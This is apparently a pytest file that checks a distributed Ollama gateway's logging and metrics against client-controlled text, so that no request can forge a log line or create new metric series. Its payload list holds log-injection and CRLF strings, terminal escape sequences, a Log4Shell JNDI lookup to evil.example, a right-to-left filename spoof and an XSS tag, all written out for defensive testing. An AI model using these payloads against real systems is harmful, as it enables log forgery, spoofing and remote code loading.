"""Texts that clients choose: none forges a line of the log, none makes a series of the metrics (S-15)."""

from __future__ import annotations

import io
import json
import logging
from collections.abc import Iterator

import pytest
import structlog
from tests.access_world import exchanged
from tests.gateway_bench import HELLO, gateway
from tests.limits import SOON_S

from ollama_distributed.gateway.app import Gateway
from ollama_distributed.node import logs
from ollama_distributed.testing.inference import ScriptedInference

pytestmark = pytest.mark.anyio

PAYLOADS = (
    '"}\n{"event":"gateway.request","status":200}',
    "\r\n2026-01-01 ERROR forged",
    "\x1b[2J\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "\u202egnp.exe",
    "\u2066\u2069\ufeff\u200b",
    "\u2028\u2029\x85",
    "\x00\x01\x7f",
    "\\u000a\\n%0a%0d",
    "${jndi:ldap://evil.example/a}",
    "%s%n%d{0}{event}",
    "a" * 20_000,
    "\U0001f600" * 300,
    "\ud800",
    "{}[]',",
    "<script>alert(1)</script>",
)
HEADERS = (
    "x-request-id",
    "user-agent",
    "referer",
    "authorization",
    "x-api-key",
    "cookie",
    "origin",
    "host",
    "content-type",
    "x-ollama-priority",
    "x-forwarded-for",
)
HOT, COLD = "/api/generate", "/api/show"


@pytest.fixture
def out() -> Iterator[io.StringIO]:
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    yield io.StringIO()
    structlog.reset_defaults()
    logs.requests.use(None)
    root.handlers[:] = handlers
    root.setLevel(level)


async def _send(app: Gateway, payload: str) -> int:
    """The payload in each place of a request; how many that were."""
    sent = 0
    for path in (HOT, COLD):
        for name in HEADERS:
            await exchanged(app, "POST", path, {name: payload}, body=b'{"model":"m"}')
        for field in ("model", "prompt", "system", payload):
            body = json.dumps({"model": "m", "stream": False, field: payload}).encode()
            await exchanged(app, "POST", path, {}, body=body)
        sent += len(HEADERS) + 4
    for path in ("/" + payload.encode("utf-8", "replace").decode(), "/api/v1/models/" + payload[:50]):
        await exchanged(app, "GET", path.encode("utf-8", "replace").decode(), {})
    return sent + 2


async def test_one_line_a_request_whatever_it_says(out: io.StringIO) -> None:
    writer = logs.configure("info", "json", out)
    app = gateway(ScriptedInference(HELLO), tell=logs.requests)
    sent = sum([await _send(app, payload) for payload in PAYLOADS])
    writer.close(SOON_S)
    text = out.getvalue()
    assert text.isascii()
    assert text.replace("\n", "").isprintable()
    lines = [json.loads(line) for line in text.splitlines()]
    told = [line for line in lines if line["event"] == "gateway.request"]
    assert len(told) == sent > 400
    assert all(len(line["request_id"]) <= 64 for line in told)
    assert "forged" not in {line["event"] for line in lines}


async def test_one_line_a_request_for_people_too(out: io.StringIO) -> None:
    writer = logs.configure("info", "console", out)
    app = gateway(ScriptedInference(HELLO), tell=logs.requests)
    sent = sum([await _send(app, payload) for payload in PAYLOADS])
    for payload in PAYLOADS:
        logging.getLogger("library").warning(payload)
    writer.close(SOON_S)
    lines = out.getvalue().split("\n")
    assert all(line.isprintable() for line in lines)
    assert sum("gateway.request " in line[:60] for line in lines) == sent
    assert sum("[warning" in line[:60] for line in lines) == len(PAYLOADS)


async def test_no_text_of_a_request_makes_a_series() -> None:
    app = gateway(ScriptedInference(HELLO))
    for payload in PAYLOADS:
        await _send(app, payload)
    await _series(app)  # it counts itself
    before = await _series(app)
    for number in range(300):
        await _send_few(app, f"name-{number}")
    assert await _series(app) == before
    assert not any("name-" in one for one in before)
    assert len(before) < 1000


async def _send_few(app: Gateway, name: str) -> None:
    await exchanged(app, "POST", HOT, {"x-request-id": name}, body=json.dumps({"model": name}).encode())
    await exchanged(app, "POST", COLD, {"user-agent": name}, body=json.dumps({"model": name}).encode())
    await exchanged(app, "GET", f"/{name}", {})


async def _series(app: Gateway) -> set[str]:
    _, _, body = await exchanged(app, "GET", "/metrics", {})
    return {line.rpartition(" ")[0] for line in body.decode().splitlines() if not line.startswith("#")}
